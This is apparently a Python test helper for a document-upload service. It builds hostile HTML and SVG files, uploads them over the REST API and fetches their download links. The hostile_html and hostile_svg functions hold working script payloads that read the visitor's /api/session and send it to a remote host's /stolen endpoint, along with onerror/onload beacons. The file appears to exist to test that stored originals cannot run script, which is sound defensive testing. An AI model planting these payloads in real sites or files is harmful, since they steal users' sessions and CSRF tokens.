"""Hostile originals (HTML and SVG that would run script and load remote things) and the
REST upload flow that stores them, spoken over real HTTP to either blob store."""

from __future__ import annotations

import time
from typing import Any

import httpx

MARKER = "shortlist-original-ran-script"
"""What a hostile original's script writes to ``document.title`` if it ever runs."""


def hostile_html(remote: str) -> bytes:
    """An HTML page whose script reads the visitor's ``/api/session`` (and its CSRF token)
    and lists their projects, and whose image, stylesheet and frame load from ``remote``."""
    return f"""<!doctype html>
<html><head><title>Quarterly notes</title>
<link rel="stylesheet" href="{remote}/style.css">
<script>
  document.title = "{MARKER}";
  fetch("/api/session", {{credentials: "include"}}).then(r => r.text()).then(t =>
    fetch("{remote}/stolen?session=" + encodeURIComponent(t)));
  fetch("/api/projects", {{credentials: "include"}});
</script></head>
<body><h1>Quarterly notes</h1><p>Revenue grew in the third quarter.</p>
<img src="{remote}/pixel.png"><iframe src="{remote}/frame.html"></iframe>
<img src="x" onerror="fetch('{remote}/onerror')">
</body></html>
""".encode()


def hostile_svg(remote: str) -> bytes:
    """An SVG drawing with a script, an event handler and a remote image."""
    return f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="200" height="200" onload="fetch('{remote}/svg-onload')">
  <script>
    document.title = "{MARKER}";
    fetch("/api/session", {{credentials: "include"}}).then(r => r.text()).then(t =>
      fetch("{remote}/stolen?session=" + encodeURIComponent(t)));
  </script>
  <image href="{remote}/svg-image.png" width="10" height="10"/>
  <text x="10" y="50">A drawing of the estuary</text>
</svg>
""".encode()


def upload_document(
    client: httpx.Client,
    project_id: str,
    filename: str,
    data: bytes,
    content_type: str | None,
    *,
    method: str | None = None,
) -> dict[str, Any]:
    """Grant, send the bytes as the grant says (local PUT or S3 POST form), register;
    returns the registered document. With ``method``, the grant must be that one."""
    granted = client.post(
        "/api/uploads",
        json={
            "project_id": project_id,
            "filename": filename,
            "content_type": content_type,
            "size": len(data),
        },
    )
    assert granted.status_code == 201, granted.text
    grant = granted.json()
    assert method is None or grant["method"] == method, grant
    if grant["method"] == "PUT":
        sent = httpx.put(grant["url"], content=data, headers=grant["headers"], timeout=30)
    else:
        assert grant["method"] == "POST", grant
        sent = httpx.post(
            grant["url"],
            data=grant["fields"],
            files={"file": (filename, data, content_type or "application/octet-stream")},
            timeout=30,
        )
    assert sent.status_code in (200, 201, 204), sent.text
    created = client.post(
        "/api/documents", json={"project_id": project_id, "upload_id": grant["upload_id"]}
    )
    assert created.status_code == 201, created.text
    document: dict[str, Any] = created.json()
    return document


def wait_settled(client: httpx.Client, document_id: str, within: float = 60.0) -> dict[str, Any]:
    """The document once extraction made it ``ready`` or ``error``."""
    deadline = time.monotonic() + within
    while True:
        document: dict[str, Any] = client.get(f"/api/documents/{document_id}").json()
        if document["status"] in ("ready", "error") or time.monotonic() > deadline:
            return document
        time.sleep(0.2)


def original_link(client: httpx.Client, document_id: str) -> str:
    """The short-lived URL ``GET /api/documents/{id}/file`` hands out."""
    answer = client.get(f"/api/documents/{document_id}/file")
    assert answer.status_code == 200, answer.text
    url: str = answer.json()["url"]
    return url
